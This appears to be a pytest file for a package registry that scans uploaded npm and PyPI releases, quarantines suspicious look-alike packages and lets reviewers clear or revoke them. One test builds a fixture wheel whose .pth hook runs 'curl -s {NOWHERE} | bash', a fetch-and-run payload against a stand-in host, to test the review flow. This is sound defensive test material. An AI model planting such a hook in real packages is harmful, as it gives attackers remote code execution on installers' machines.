"""Own releases between their publish and their first download: scanned, then offered or in quarantine."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Connection, select

from pratique.core.actors import OPERATOR, ActorKind, Operation
from pratique.core.artifacts import Clearance
from pratique.core.decisions import Mode
from pratique.core.errors import Conflict
from pratique.core.names import EcosystemId, ProjectKey
from pratique.core.reviews import Suspicion
from pratique.services.governing.list_events import ListEvents, list_events
from pratique.services.governing.revoke import revoke, unrevoke
from pratique.services.governing.rule_settings import SetRule, set_rule
from pratique.services.publishing.scan_release import ScanWork, scan_left, scan_releases
from pratique.services.reviewing.case_times import ShowTimes, show_times
from pratique.services.reviewing.cases_shown import CaseShown, ListQueue, ShowCase, list_queue, show_case
from pratique.services.reviewing.decide_case import DecideCase, clear_case, confirm_case
from pratique.services.visits import find_repository
from pratique.store import awaiting_scans, projects, release_cases, releases
from pratique.store.release_cases import Opened
from pratique.store.schema import awaiting_scan
from tests.harness import packages
from tests.harness.lookalike_packages import NOWHERE, WORST, harmful, harmless
from tests.harness.plain_registry import PlainRegistry
from tests.harness.site import Site, new_token, running_site
from tests.protocol.conftest import ON_SQLITE
from tests.protocol.speakers import NpmSpeaker, PypiSpeaker, Speaker

NPM = NpmSpeaker("full", "application/json")
PYPI = PypiSpeaker("json", "application/vnd.pypi.simple.v1+json")
SCANNING = '\n[publish]\nscan = "before"\n'
NOT_WAITING = f'{SCANNING}scan_wait = "0 s"\n'


@pytest.fixture
async def scanning(tmp_path: Path, registry: PlainRegistry, kind_of_database: str) -> AsyncIterator[Site]:
    """A server that scans what is published, and keeps back what is in quarantine."""
    async with running_site(tmp_path, registry.settings + SCANNING, database=kind_of_database) as running:
        await set_rule(running.ports, SetRule(rule="under_review", mode=Mode.ENFORCE), OPERATOR)
        yield running


@pytest.fixture
async def slow(tmp_path: Path, registry: PlainRegistry) -> AsyncIterator[Site]:
    """The same, where no answer waits for a scan."""
    async with running_site(tmp_path, registry.settings + NOT_WAITING) as running:
        await set_rule(running.ports, SetRule(rule="under_review", mode=Mode.ENFORCE), OPERATOR)
        yield running


def told(answer: Any) -> str:
    return answer.text + answer.headers.get("npm-notice", "")


async def state(site: Site, client: Speaker, name: str, version: str) -> Clearance:
    def read(connection: Connection) -> Clearance:
        project = projects.find(connection, 1, ProjectKey(EcosystemId(client.ecosystem), name))
        release = releases.find(connection, project.id, version) if project else None
        assert release is not None
        return release.clearance

    return await site.ports.db.read(read)


async def queue(site: Site) -> tuple[CaseShown, ...]:
    return (await list_queue(site.ports, ListQueue(), OPERATOR)).releases


async def put(site: Site, client: Speaker, name: str, version: str, *, bad: bool, token: str = "") -> Any:
    made = (harmful if bad else harmless)(client.ecosystem, name, version)
    return await client.upload(site, name, version, token or site.token, content=made)


async def test_a_look_alike_goes_into_quarantine_its_twin_is_live_and_a_reviewer_lets_it_out(
    scanning: Site, client: Speaker
) -> None:
    site, purl = scanning, f"pkg:{client.ecosystem}/left@1.0.1"

    good = await put(site, client, "left", "1.0.0", bad=False)
    bad = await put(site, client, "left", "1.0.1", bad=True)
    listing = await client.listing(site, "left", site.token)
    held = await site.get(client.path("left", "1.0.1"), site.token)
    again = await put(site, client, "left", "1.0.1", bad=True)
    (case,) = await queue(site)
    detail = await show_case(site.ports, ShowCase(purl), OPERATOR)

    assert "is live" in told(good)
    assert bad.status in (200, 201)
    assert "in quarantine and not offered" in told(bad)
    assert WORST[client.ecosystem] in told(bad)
    assert client.offered(listing) == ["1.0.0"]
    assert (await site.get(client.path("left", "1.0.0"), site.token)).status == 200
    assert held.status == 403
    assert "Blocked by policy under_review: left" in held.reason
    assert again.status in (client.conflict, 200)
    assert (case.purl, case.suspicion, case.held, case.own) == (purl, "quarantine", True, True)
    assert WORST[client.ecosystem] in {one.detector for one in detail.evidence}
    assert detail.published_by == "user:ann"
    assert await state(site, client, "left", "1.0.1") is Clearance.QUARANTINED

    with pytest.raises(Conflict, match="look again"):
        await clear_case(site.ports, DecideCase(purl, "it is our own installer"), OPERATOR)
    await clear_case(site.ports, DecideCase(purl, "it is our own installer", seen=detail.seen), OPERATOR)

    assert client.offered(await client.listing(site, "left", site.token)) == ["1.0.0", "1.0.1"]
    assert (await site.get(client.path("left", "1.0.1"), site.token)).status == 200
    assert await queue(site) == ()
    kinds = [one.kind for one in (await list_events(site.ports, ListEvents(), OPERATOR)).events]
    assert {"cleared", "to_review", "quarantined", "case_cleared"} <= set(kinds)
    times = {one.what: one.number for one in (await show_times(site.ports, ShowTimes(), OPERATOR)).took}
    assert times == {"first_verdict": 2, "to_quarantine": 1, "to_decision": 1}


async def test_what_a_reviewer_confirms_is_revoked(scanning: Site, client: Speaker) -> None:
    site, purl = scanning, f"pkg:{client.ecosystem}/left@1.0.1"
    await put(site, client, "left", "1.0.1", bad=True)
    while (await site.get(client.path("left", "1.0.1"), site.token)).status == 503:
        await asyncio.sleep(0.1)  # a busy machine may answer the publish before the scan is over

    await confirm_case(site.ports, DecideCase(purl, "it fetches and runs a script"), OPERATOR)
    refused = await site.get(client.path("left", "1.0.1"), site.token)

    assert refused.status == 403
    assert "Blocked by policy revoked: left" in refused.reason
    assert await state(site, client, "left", "1.0.1") is Clearance.REVOKED


async def test_what_waits_for_its_scan_is_asked_for_again_and_public_once_it_is_clear(
    slow: Site, client: Speaker
) -> None:
    site = slow

    taken = await put(site, client, "left", "1.0.0", bad=False)
    listing = await client.listing(site, "left", site.token)
    file = await site.get(client.path("left", "1.0.0"), site.token)
    outsider = await site.get(client.path("left", "1.0.0"))
    nowhere = await site.get(client.path("right", "1.0.0"))

    assert "being scanned" in told(taken)
    assert await state(site, client, "left", "1.0.0") is Clearance.SCANNING
    assert [(one.status, "Retry-After" in one.headers) for one in (listing, file)] == [(503, True), (503, True)]
    assert "is being scanned" in file.reason + file.text
    assert (outsider.status, outsider.text.replace("left", "NAME")) == (
        nowhere.status,
        nowhere.text.replace("right", "NAME"),
    )

    site.clock.set("+2m")
    await scan_left(site.ports)

    assert client.offered(await client.listing(site, "left", site.token)) == ["1.0.0"]
    assert (await site.get(client.path("left", "1.0.0"), site.token)).status == 200
    assert await site.ports.db.read(awaiting_scans.how_many) == 0


async def test_a_live_release_stays_while_the_next_one_is_scanned(slow: Site, client: Speaker) -> None:
    site = slow
    await put(site, client, "left", "1.0.0", bad=False)
    site.clock.set("+2m")
    await scan_left(site.ports)

    await put(site, client, "left", "1.0.1", bad=True)
    listing = await client.listing(site, "left", site.token)
    waits = await site.get(client.path("left", "1.0.1"), site.token)
    site.clock.set("+4m")
    await scan_left(site.ports)
    held = await site.get(client.path("left", "1.0.1"), site.token)

    assert client.offered(listing) == ["1.0.0"]
    assert (waits.status, held.status) == (503, 403)
    assert await state(site, client, "left", "1.0.1") is Clearance.QUARANTINED


async def test_a_scan_that_died_is_done_by_whoever_sweeps_and_not_before_its_claim_is_over(slow: Site) -> None:
    site, npm = slow, NPM
    await put(site, npm, "left", "1.0.0", bad=False)

    def begin(connection: Connection) -> None:
        file_id = connection.execute(select(awaiting_scan.c.file_id)).scalar_one()
        now = site.ports.clock.now()
        assert awaiting_scans.claim(connection, file_id, now, now + 150_000)
        assert not awaiting_scans.claim(connection, file_id, now, now + 150_000)

    await site.ports.db.write(begin)
    site.clock.set("+2m")
    await scan_left(site.ports)
    assert await state(site, npm, "left", "1.0.0") is Clearance.SCANNING

    site.clock.set("+3m")
    await scan_left(site.ports)
    assert await state(site, npm, "left", "1.0.0") is Clearance.LIVE


@ON_SQLITE
async def test_while_the_rule_is_on_trial_a_look_alike_is_offered_and_waits_for_a_person(
    scanning: Site, client: Speaker
) -> None:
    site = scanning
    await set_rule(site.ports, SetRule(rule="under_review", mode=Mode.DRY_RUN), OPERATOR)

    taken = await put(site, client, "left", "1.0.0", bad=True)

    assert "is live" in told(taken)
    assert "is on trial" in told(taken)
    assert client.offered(await client.listing(site, "left", site.token)) == ["1.0.0"]
    assert [one.suspicion for one in await queue(site)] == ["quarantine"]


@ON_SQLITE
async def test_what_is_said_against_a_private_release_is_shown_to_reviewers_and_owners_only(scanning: Site) -> None:
    from tests.protocol.speakers import NpmSpeaker

    site, npm = scanning, NpmSpeaker("full", "application/json")
    await put(site, npm, "left", "1.0.0", bad=True, token=site.admin)
    narrow = await new_token(site, "alice", ActorKind.USER, frozenset({Operation.READ}))

    async def shown(name: str, token: str | None) -> tuple[int, str]:
        answer = await site.get(f"/api/v1/review/show?purl=pkg:npm/{name}@1.0.0", token)
        return answer.status, answer.text.replace(name, "NAME")

    assert (await shown("left", None))[0] == 401
    assert await shown("left", site.token) == await shown("nowhere-to-be-found", site.token)
    assert (await shown("left", site.token))[0] == 404
    assert (await shown("left", site.agent))[0] == 403
    assert (await shown("left", narrow))[0] == 403
    assert (await shown("left", site.admin))[0] == 200


async def test_where_releases_are_scanned_afterwards_they_are_public_at_once_and_what_is_bad_goes(
    tmp_path: Path, registry: PlainRegistry, client: Speaker
) -> None:
    async with running_site(tmp_path, registry.settings + '\n[publish]\nscan = "after"\n') as site:
        await set_rule(site.ports, SetRule(rule="under_review", mode=Mode.ENFORCE), OPERATOR)

        taken = await put(site, client, "left", "1.0.0", bad=True)
        before = await site.get(client.path("left", "1.0.0"), site.token)
        await scan_releases(site.ports, ScanWork(1, ((client.ecosystem, "left", "1.0.0"),)))
        after = await site.get(client.path("left", "1.0.0"), site.token)

        assert "is live" in told(taken)
        assert (before.status, after.status) == (200, 403)
        assert await state(site, client, "left", "1.0.0") is Clearance.QUARANTINED


async def test_what_is_revoked_while_it_waits_for_its_scan_stays_so_and_is_withheld_until_then(slow: Site) -> None:
    site, purl = slow, "pkg:npm/left@1.0.0"
    await put(site, NPM, "left", "1.0.0", bad=False)

    await revoke(site.ports, "main", purl, None, "a mistake", OPERATOR)
    await unrevoke(site.ports, "main", purl, None, OPERATOR)
    given_back = await site.get(NPM.path("left", "1.0.0"), site.token)
    await revoke(site.ports, "main", purl, None, "a mistake", OPERATOR)
    site.clock.set("+2m")
    await scan_left(site.ports)
    revoked = await site.get(NPM.path("left", "1.0.0"), site.token)

    assert given_back.status == 503, "unscanned"
    assert (revoked.status, revoked.json()["rule"]) == (403, "revoked")
    assert await state(site, NPM, "left", "1.0.0") is Clearance.REVOKED


async def test_a_file_that_joins_a_live_release_waits_alone_and_takes_the_release_with_it_if_it_is_bad(
    slow: Site,
) -> None:
    site, pypi = slow, PypiSpeaker("json", "application/vnd.pypi.simple.v1+json")
    await put(site, pypi, "left", "1.0.0", bad=False)
    site.clock.set("+2m")
    await scan_left(site.ports)
    bad = harmful("pypi", "left", "1.0.0")

    second = await pypi.upload(site, "left", "1.0.0", site.token, content=bad, filename="left-1.0.0-py2-none-any.whl")
    first = await site.get(pypi.path("left", "1.0.0"), site.token)
    joined = await site.get("/main/pypi/files/left/left-1.0.0-py2-none-any.whl", site.token)
    site.clock.set("+4m")
    await scan_left(site.ports)
    both = [
        await site.get(f"/main/pypi/files/left/left-1.0.0-{tag}-none-any.whl", site.token) for tag in ("py3", "py2")
    ]

    assert second.status == 200, second.text
    assert (first.status, joined.status) == (200, 503)
    assert [one.status for one in both] == [403, 403]


@ON_SQLITE
async def test_what_was_found_since_somebody_looked_is_not_cleared_with_what_they_saw(scanning: Site) -> None:
    """While the rule is on trial, a release that waits for a person takes further files."""
    site, client = scanning, PYPI
    purl = "pkg:pypi/left@1.0.1"
    await set_rule(site.ports, SetRule(rule="under_review", mode=Mode.DRY_RUN), OPERATOR)
    await put(site, client, "left", "1.0.1", bad=True)
    before = await show_case(site.ports, ShowCase(purl), OPERATOR)
    hook = f"import os; os.system('curl -s {NOWHERE} | bash')\n".encode()
    other = packages.wheel("left", "1.0.1", files={"other-init.pth": hook})[1]
    second = "left-1.0.1-1-py3-none-any.whl"
    joined = await client.upload(site, "left", "1.0.1", site.token, content=other, filename=second)
    assert joined.status == 200, joined.text
    after = await show_case(site.ports, ShowCase(purl), OPERATOR)

    with pytest.raises(Conflict, match="is not what you looked at"):
        await clear_case(site.ports, DecideCase(purl, "fine", seen=before.seen), OPERATOR)
    waiting = await queue(site)
    await clear_case(site.ports, DecideCase(purl, "fine", seen=after.seen), OPERATOR)

    assert before.seen != after.seen
    assert [one.purl for one in waiting] == [purl]
    assert await queue(site) == ()


async def test_of_very_many_releases_the_worst_are_on_the_first_page(site: Site) -> None:
    many = ProjectKey(EcosystemId("npm"), "many")

    def put_all(connection: Connection) -> None:
        place = find_repository(connection, "main").id
        for number in range(600):
            suspicion = Suspicion.QUARANTINE if number == 550 else Suspicion.REVIEW
            opened = Opened(many, f"1.0.{number}", True, suspicion, "odd", score=number // 10)
            release_cases.put(connection, place, opened, site.ports.clock.now())

    await site.ports.db.write(put_all)
    first = await list_queue(site.ports, ListQueue(), OPERATOR)
    rest = await list_queue(site.ports, ListQueue(after=first.releases[-1].id), OPERATOR)

    assert first.releases[0].purl == "pkg:npm/many@1.0.550"
    assert (first.more, rest.more) == (True, False)
    told = [*first.releases, *rest.releases]
    assert len({one.id for one in told}) == len(told) == 600
    assert [one.score for one in told[1:]] == sorted((one.score for one in told[1:]), reverse=True)
